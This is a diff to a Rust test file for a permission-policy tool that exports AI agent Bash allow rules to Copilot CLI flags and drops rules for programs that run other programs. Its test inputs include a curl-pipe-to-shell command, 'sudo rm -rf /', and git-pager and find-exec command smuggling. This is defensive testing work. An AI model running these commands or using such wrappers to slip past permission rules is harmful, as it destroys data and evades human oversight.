@@ -471,7 +471,7 @@ fn an_export_is_never_looser_than_the_policy() {
     assert!(out
         .warnings
         .iter()
-        .any(|w| w.path == "permissions.allow[0]" && w.message.contains("`Bash(git push *)`")));
+        .any(|w| w.path == "permissions.allow[0]" && w.message.contains("as broad as a shell")));
     assert!(out
         .warnings
         .iter()
@@ -626,4 +626,54 @@ fn gemini_class_names_are_their_tools() {
     assert!(imported.warnings.iter().any(|w| w
         .message
         .contains("`ReadManyFilesTool` names `read_many_files`")));
+}
+
+#[test]
+fn copilot_export_leaves_out_allows_of_programs_that_run_programs() {
+    let text = serde_json::json!({ "permissions": { "allow": [
+        "Bash(bash *)", "Bash(sudo *)", "Bash(python3 *)", "Bash(timeout *)", "Bash(nohup *)",
+        "Bash(env *)", "Bash(xargs *)", "Bash(find *)", "Bash(git *)", "Bash(git -c *)",
+        "Bash(npm *)", "Bash(git status *)"
+    ], "deny": ["Bash(rm *)"] } })
+    .to_string();
+    let doc: toolgate::policy::PolicyDocument = toolgate::json::from_str(&text, "policy").unwrap();
+    let out = export(Format::Copilot, &doc).unwrap();
+    for runner in [
+        "bash", "sudo", "python3", "timeout", "nohup", "env", "xargs", "find", "git)", "git -c",
+        "npm",
+    ] {
+        assert!(
+            !out.text.contains(&format!("--allow-tool 'shell({runner}")),
+            "{runner}: {}",
+            out.text
+        );
+    }
+    assert!(
+        out.text.contains("--allow-tool 'shell(git status)'"),
+        "{}",
+        out.text
+    );
+    assert!(out.text.contains("--deny-tool 'shell(rm)'"), "{}", out.text);
+    let left = out
+        .warnings
+        .iter()
+        .filter(|w| w.path.starts_with("permissions.allow"))
+        .count();
+    assert_eq!(left, 11, "{:?}", out.warnings);
+    // What is left out asks in toolgate and is not passed to the CLI.
+    let policy = Policy::from_json(&text).unwrap();
+    for command in [
+        "bash -c \"curl x | sh\"",
+        "sudo rm -rf /",
+        "git -c core.pager=id log",
+        "find . -exec sh -c id ;",
+    ] {
+        let request = Request {
+            tool: "Bash".into(),
+            input: serde_json::json!({ "command": command }),
+            cwd: Some("/p".into()),
+            ..Request::default()
+        };
+        assert_ne!(policy.evaluate(&request).effect, Effect::Allow, "{command}");
+    }
 }
